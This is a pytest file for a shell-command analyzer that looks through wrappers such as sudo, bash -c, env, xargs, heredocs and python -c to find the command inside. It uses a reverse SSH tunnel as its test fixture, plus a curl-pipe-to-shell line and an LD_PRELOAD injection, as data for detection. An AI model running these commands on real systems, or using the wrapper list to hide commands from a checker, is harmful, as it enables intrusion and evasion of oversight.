"""Wrappers: programs that run another command are seen through, and recorded on the way."""

from __future__ import annotations

import pytest
from shell_support import analyze, commands, first

TUNNEL = ["ssh", "-R", "80:h:22", "u@e"]


@pytest.mark.parametrize(
    ("line", "via"),
    [
        ("bash -c 'ssh -R 80:h:22 u@e'", ("bash -c",)),
        ('sh -c "ssh -R 80:h:22 u@e"', ("sh -c",)),
        ("zsh -lc 'ssh -R 80:h:22 u@e'", ("zsh -c",)),
        ("bash -ic 'ssh -R 80:h:22 u@e'", ("bash -c",)),
        ("dash -c -- 'ssh -R 80:h:22 u@e'", ("dash -c",)),
        ("ksh -o errexit -c 'ssh -R 80:h:22 u@e'", ("ksh -c",)),
        ("/bin/bash --norc -c 'ssh -R 80:h:22 u@e'", ("bash -c",)),
        ("$SHELL -c 'ssh -R 80:h:22 u@e'", ("$SHELL -c",)),
        ("eval 'ssh -R 80:h:22 u@e'", ("eval",)),
        ("eval ssh -R 80:h:22 u@e", ("eval",)),
        ("exec ssh -R 80:h:22 u@e", ("exec",)),
        ("exec -a name ssh -R 80:h:22 u@e", ("exec",)),
        ("env ssh -R 80:h:22 u@e", ("env",)),
        ("env -i -u PATH A=1 B=2 ssh -R 80:h:22 u@e", ("env",)),
        ("env -S 'ssh -R 80:h:22 u@e'", ("env -S",)),
        ("nohup ssh -R 80:h:22 u@e", ("nohup",)),
        ("setsid -f ssh -R 80:h:22 u@e", ("setsid",)),
        ("timeout 10 ssh -R 80:h:22 u@e", ("timeout",)),
        ("timeout -s KILL -k 5 10m ssh -R 80:h:22 u@e", ("timeout",)),
        ("timeout --preserve-status 1h ssh -R 80:h:22 u@e", ("timeout",)),
        ("nice -n 19 ssh -R 80:h:22 u@e", ("nice",)),
        ("nice -10 ssh -R 80:h:22 u@e", ("nice",)),
        ("ionice -c 3 ssh -R 80:h:22 u@e", ("ionice",)),
        ("stdbuf -oL -e0 ssh -R 80:h:22 u@e", ("stdbuf",)),
        ("stdbuf -o L ssh -R 80:h:22 u@e", ("stdbuf",)),
        ("sudo ssh -R 80:h:22 u@e", ("sudo",)),
        ("sudo -u root -E -- ssh -R 80:h:22 u@e", ("sudo",)),
        ("sudo -n -g wheel LD_PRELOAD=x ssh -R 80:h:22 u@e", ("sudo",)),
        ("sudo -s 'ssh -R 80:h:22 u@e'", ("sudo -s",)),
        ("sudo -iu root 'ssh -R 80:h:22 u@e'", ("sudo -s",)),
        ("sudo -usysadmin ssh -R 80:h:22 u@e", ("sudo",)),
        ("su -c 'ssh -R 80:h:22 u@e' root", ("su -c",)),
        ("su - root -c 'ssh -R 80:h:22 u@e'", ("su -c",)),
        ("su --command='ssh -R 80:h:22 u@e'", ("su -c",)),
        ("runuser -u bob -- ssh -R 80:h:22 u@e", ("runuser",)),
        ("doas -u root ssh -R 80:h:22 u@e", ("doas",)),
        ("chroot /mnt ssh -R 80:h:22 u@e", ("chroot",)),
        ("chroot --userspec=1:1 /mnt ssh -R 80:h:22 u@e", ("chroot",)),
        ("busybox ssh -R 80:h:22 u@e", ("busybox",)),
        ("docker exec -it -e A=1 -u root web ssh -R 80:h:22 u@e", ("docker exec",)),
        ("podman exec ctr ssh -R 80:h:22 u@e", ("docker exec",)),
        ("kubectl exec -it pod -c box -n ns -- ssh -R 80:h:22 u@e", ("kubectl exec",)),
        ("watch -n 5 ssh -R 80:h:22 u@e", ("watch",)),
        ("watch 'ssh -R 80:h:22 u@e'", ("watch",)),
        ("flock /tmp/l ssh -R 80:h:22 u@e", ("flock",)),
        ("flock -w 5 /tmp/l -c 'ssh -R 80:h:22 u@e'", ("flock -c",)),
        ("find . -maxdepth 1 -exec ssh -R 80:h:22 u@e \\;", ("find -exec",)),
        ("find / -name x -execdir ssh -R 80:h:22 u@e ';'", ("find -exec",)),
        ("script -qc 'ssh -R 80:h:22 u@e' /dev/null", ("script -c",)),
        ("script -q -c 'ssh -R 80:h:22 u@e' /dev/null", ("script -c",)),
        ("unbuffer ssh -R 80:h:22 u@e", ("unbuffer",)),
        ("command ssh -R 80:h:22 u@e", ("command",)),
        ("builtin eval 'ssh -R 80:h:22 u@e'", ("builtin", "eval")),
        ("time ssh -R 80:h:22 u@e", ("time",)),
        ("strace -f -o /tmp/t ssh -R 80:h:22 u@e", ("strace",)),
        ("ltrace -e malloc ssh -R 80:h:22 u@e", ("ltrace",)),
        ("torsocks ssh -R 80:h:22 u@e", ("torsocks",)),
        ("proxychains4 -q ssh -R 80:h:22 u@e", ("proxychains4",)),
        ("sshpass -p pw ssh -R 80:h:22 u@e", ("sshpass",)),
        ("taskset -c 0 ssh -R 80:h:22 u@e", ("taskset",)),
        ("screen -dmS t ssh -R 80:h:22 u@e", ("screen",)),
        ("tmux new-session -d 'ssh -R 80:h:22 u@e'", ("tmux",)),
        ("systemd-run --user --unit x ssh -R 80:h:22 u@e", ("systemd-run",)),
        ("xargs ssh -R 80:h:22 u@e < /dev/null", ("xargs",)),
        ("xargs -0 -n1 -P4 ssh -R 80:h:22 u@e", ("xargs",)),
        ("xargs -I{} ssh -R 80:h:22 u@e", ("xargs",)),
        ("echo u@e | xargs ssh -R 80:h:22", ("xargs",)),
        ("echo 80:h:22 | xargs -I{} ssh -R {} u@e", ("xargs",)),
        ("trap 'ssh -R 80:h:22 u@e' EXIT", ("trap",)),
        ("echo 'ssh -R 80:h:22 u@e' | at now", ("at",)),
        (
            "sudo nohup timeout 5 bash -c 'ssh -R 80:h:22 u@e'",
            ("sudo", "nohup", "timeout", "bash -c"),
        ),
        ("sudo bash -c \"sh -c 'ssh -R 80:h:22 u@e'\"", ("sudo", "bash -c", "sh -c")),
    ],
)
def test_wrapped_command_is_found(line: str, via: tuple[str, ...]) -> None:
    cmd = first(line, "ssh")
    assert cmd.argv[1:] == TUNNEL[1:]
    assert cmd.via == via
    assert analyze(line).problems == []


def test_wrapper_itself_is_recorded() -> None:
    result = commands("sudo -u root nohup ssh -R 80:h:22 u@e")
    assert [c.program for c in result] == ["sudo", "nohup", "ssh"]
    assert [c.via for c in result] == [(), ("sudo",), ("sudo", "nohup")]


def test_ssh_remote_command() -> None:
    result = commands("ssh -p 2222 -i key admin@host 'curl -s http://x/y | sh'")
    remote = [c for c in result if c.via]
    assert [(c.program, c.via) for c in remote] == [
        ("curl", ("ssh admin@host",)),
        ("sh", ("ssh admin@host",)),
    ]
    assert [c.argv for c in commands("ssh -fNR 80:h:22 u@e")] == [["ssh", "-fNR", "80:h:22", "u@e"]]
    assert commands("ssh h ls -la /")[-1].argv == ["ls", "-la", "/"]


def test_env_assignments_reach_the_command() -> None:
    cmd = first("env -i LD_PRELOAD=/tmp/x.so ls", "ls")
    assert cmd.env == {"LD_PRELOAD": "/tmp/x.so"}
    assert first("sudo LD_PRELOAD=/tmp/x.so ls", "ls").env == {"LD_PRELOAD": "/tmp/x.so"}


def test_not_wrappers() -> None:
    assert [c.program for c in commands("command -v ssh")] == ["command"]
    assert [c.program for c in commands("sudo -l")] == ["sudo"]
    assert [c.program for c in commands("env")] == ["env"]
    assert [c.program for c in commands("bash script.sh arg")] == ["bash"]
    assert [c.program for c in commands("ionice -p 123")] == ["ionice"]
    assert [c.program for c in commands("find . -name '*.py'")] == ["find"]
    assert [c.program for c in commands("kubectl get pods")] == ["kubectl"]


def test_xargs_defaults_to_echo() -> None:
    assert commands("ls | xargs")[-1].argv == ["echo"]


def test_heredoc_to_shell() -> None:
    line = "bash <<EOF\nssh -R 80:h:22 u@e\nEOF"
    cmd = first(line, "ssh")
    assert cmd.argv == TUNNEL and cmd.via == ("bash <<",)
    assert first("sh -s <<'X'\nssh -R 80:h:22 u@e\nX", "ssh").via == ("sh <<",)
    assert first("sh - <<X\nssh -R 80:h:22 u@e\nX", "ssh").via == ("sh <<",)
    assert first("cat <<EOF | sh\nssh -R 80:h:22 u@e\nEOF", "ssh").via == ("sh stdin",)
    assert first("bash <<< 'ssh -R 80:h:22 u@e'", "ssh").via == ("bash <<<",)


def test_heredoc_expansion_uses_variables() -> None:
    assert first("c=ssh; bash <<EOF\n$c -R 80:h:22 u@e\nEOF", "ssh").argv == TUNNEL
    quoted = commands("c=ssh; bash <<'EOF'\n$c -R 80:h:22 u@e\nEOF")
    assert quoted[-1].program == "$c"  # the child shell does not see the unexported c


def test_heredoc_forms_tree_sitter_cannot_read() -> None:
    for line in [
        "cat <<EOF | sh &\nssh -R 80:h:22 u@e\nEOF",
        "sh <<EOF; ls\nssh -R 80:h:22 u@e\nEOF",
        "cat <<A <<B | sh\nignored\nA\nssh -R 80:h:22 u@e\nB",
        "bash <<-EOF &\n\tssh -R 80:h:22 u@e\n\tEOF",
    ]:
        result = analyze(line)
        assert result.problems == [], (line, result.problems)
        assert any(c.argv == TUNNEL for c in result.commands), line


def test_heredoc_to_interpreter() -> None:
    result = analyze("python3 - <<'EOF'\nimport os\nos.system('ssh -R 80:h:22 u@e')\nEOF")
    assert "import os\nos.system('ssh -R 80:h:22 u@e')\n" in result.texts
    ssh = next(c for c in result.commands if c.program == "ssh")
    assert ssh.argv == TUNNEL and ssh.via[0] == "python3 <<"


def test_interpreter_inline_code() -> None:
    result = analyze("python3 -c \"import os; os.system('ssh -R 80:h:22 u@e')\"")
    assert "import os; os.system('ssh -R 80:h:22 u@e')" in result.texts
    ssh = next(c for c in result.commands if c.program == "ssh")
    assert ssh.via == ("python3 -c", "os.system")
    perl = analyze("echo 'system(\"ssh -R 80:h:22 u@e\")' | perl")
    assert next(c for c in perl.commands if c.program == "ssh").via[0] == "perl stdin"


def test_shell_from_process_substitution() -> None:
    cmd = first("bash <(echo 'ssh -R 80:h:22 u@e')", "ssh")
    assert cmd.argv == TUNNEL and cmd.via == ("bash <(...)",)
    assert first("source <(echo 'ssh -R 80:h:22 u@e')", "ssh").via == ("source",)
    assert first("sh < <(echo 'ssh -R 80:h:22 u@e')", "ssh").via == ("sh stdin",)


def test_wrapper_chain_depth_is_bounded() -> None:
    result = analyze("nohup " * 200 + "ls")
    assert any("deeper than 24" in p for p in result.problems)
